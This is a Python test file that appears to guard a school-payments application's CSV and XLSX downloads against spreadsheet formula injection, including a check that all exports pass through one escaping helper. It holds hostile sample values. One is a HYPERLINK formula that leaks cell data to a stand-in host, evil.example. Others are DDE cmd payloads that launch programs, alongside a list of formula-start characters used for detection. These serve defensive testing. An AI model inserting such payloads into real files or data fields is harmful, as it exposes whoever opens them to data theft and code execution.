"""Formula injection across every spreadsheet download: text one person wrote (a school's name, a region's name, a
child's name on an act line) and another opens in Excel or LibreOffice is text there, never a formula.

The downloads are enumerated from the application's routes: a new CSV or XLSX route fails
:func:`test_every_download_route_is_one_this_file_opens` until it is added to :data:`DOWNLOADS` and so opened with
the hostile values below. The one helper all of them pass is :func:`app.security.spreadsheet_cell` (and
:func:`app.security.csv_export_writer` for CSV); :func:`test_spreadsheets_are_written_only_through_the_one_helper`
keeps it the only way a file is written."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select

from app import clock
from app.acts.models import Act, ActLine
from app.acts.operations import prefill_lines
from app.engine.runtime import complete_task
from app.extensions import db
from tests.helpers import act_of_school, open_task, user

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE = {
    "school": '=HYPERLINK("http://evil.example/?leak="&A1,"Bilim")',
    "region": "@SUM(1+1)*cmd|' /C calc'!A0",
    "pupil": "+1+cmd|' /C calc'!A0",
    "pupil_split": "Иванов;=1+1",  # Excel in ru-RU / kk-KZ splits a CSV on ";"
}

#: every route that answers a CSV or XLSX file, and who opens it here; ``{act}`` and ``{period}`` are filled in
DOWNLOADS = {
    "acts.export": [("official", "/acts/{act}/lines.csv"), ("official", "/acts/{act}/lines.xlsx")],
    "reports.reconciliation_export": [("operator", "/reports/reconciliation.csv?period={period}"),
                                      ("operator", "/reports/reconciliation.xlsx?period={period}")],
    "reports.payments_export": [("operator", "/reports/payments.csv?period={period}"),
                                ("operator", "/reports/payments.xlsx?period={period}")],
    # the open-data portal's tables (organisations' names; its own tests: tests/security/test_bad_input_classes.py)
    "public.download": [],
}


def _download_endpoints(app) -> set[str]:
    found = set()
    for rule in app.url_map.iter_rules():
        if re.search(r"csv|xlsx", rule.rule) or "<fmt>" in rule.rule:
            found.add(rule.endpoint)
    return found


def test_every_download_route_is_one_this_file_opens(app):
    assert _download_endpoints(app) == set(DOWNLOADS), (
        "a CSV/XLSX route was added or renamed: open it in DOWNLOADS with the hostile values")


def _hostile_paid_act() -> Act:
    """Bilim's October act, its school, region and first pupil named by an attacker, submitted, accepted and paid."""
    act = act_of_school("Bilim Innovation School")
    act.school.name = HOSTILE["school"]
    region = act.school.region
    region.name_en = region.name_ru = region.name_kk = HOSTILE["region"]
    db.session.commit()
    complete_task(open_task(act, "submit_act").id, user("accountant"), data={"lines": prefill_lines(act)})
    db.session.commit()
    complete_task(open_task(db.session.get(Act, act.id), "accept_act").id, user("official"),
                  data={"decision": "accept"})
    db.session.commit()
    complete_task(open_task(db.session.get(Act, act.id), "pay_act").id, user("operator"),
                  data={"order_number": "PP-F-1", "paid_on": clock.today().isoformat()})
    # the names as the school typed them (typed in the form, they would have been put up for review against NEDB's
    # names first; the files show what the act holds either way)
    first, second = db.session.scalars(select(ActLine).where(ActLine.act_id == act.id).order_by(ActLine.line_no)
                                       .limit(2)).all()
    first.full_name, second.full_name = HOSTILE["pupil"], HOSTILE["pupil_split"]
    db.session.commit()
    return db.session.get(Act, act.id)


def _cells(url: str, body: bytes) -> list[tuple[str, object]]:
    """(data type, value) of every cell; "f" is a formula (XLSX), CSV cells are text "s"."""
    if ".xlsx" in url:
        book = load_workbook(io.BytesIO(body))
        return [(cell.data_type, cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    text = body.decode("utf-8-sig")
    cells = [("s", value) for row in csv.reader(io.StringIO(text)) for value in row]
    # what a spreadsheet splitting on ";" makes of each cell (ru-RU, kk-KZ Excel)
    return cells + [("s", part) for _t, value in cells for part in value.split(";")]


def test_every_download_keeps_what_people_wrote_as_text(world, browser):
    act = _hostile_paid_act()
    assert db.session.scalar(select(ActLine.full_name).where(ActLine.act_id == act.id, ActLine.line_no == 1)) \
        == HOSTILE["pupil"], "the hostile pupil's name is in the act as written"
    values = {"act": act.id, "period": f"{act.period:%Y-%m}"}
    opened = 0
    for endpoint, downloads in DOWNLOADS.items():
        for who, pattern in downloads:
            url = pattern.format(**values)
            response = browser(who).get(url)
            assert response.status_code == 200, url
            assert response.headers.get("X-Content-Type-Options") == "nosniff", url
            assert response.headers["Content-Disposition"].startswith("attachment;"), url
            cells = _cells(url, response.get_data())
            formulas = [value for kind, value in cells if kind == "f"]
            assert not formulas, f"{url}: formula cells {formulas}"
            starts = [value for _kind, value in cells
                      if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS)]
            assert not starts, f"{url} ({endpoint}): cells a spreadsheet runs {starts}"
            text = " ".join(str(value) for _kind, value in cells)
            # what was written is there, kept as text (a quote before it), not dropped
            expected = {"acts.export": ("pupil",), "reports.reconciliation_export": ("region",),
                        "reports.payments_export": ("school", "region")}[endpoint]
            for key in expected:
                assert "'" + HOSTILE[key] in text, f"{url}: {key} missing or not quoted"
            opened += 1
    assert opened == sum(len(d) for d in DOWNLOADS.values())


def test_spreadsheets_are_written_only_through_the_one_helper(project_root):
    """A CSV writer is made by csv_export_writer only, and a module that builds a workbook passes its text cells through
    spreadsheet_cell (directly or as app.acts.report.safe_cell)."""
    writers, workbooks = [], []
    for path in sorted(Path(project_root, "app").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        name = path.relative_to(project_root).as_posix()
        if "csv.writer(" in text and name not in ("app/security.py", "app/registry/synthetic.py"):
            writers.append(name)  # synthetic.py: the benchmark's made-up registry files, never a download
        if "Workbook(" in text and not re.search(r"\b(spreadsheet_cell|safe_cell)\(", text):
            workbooks.append(name)
    assert writers == [] and workbooks == []
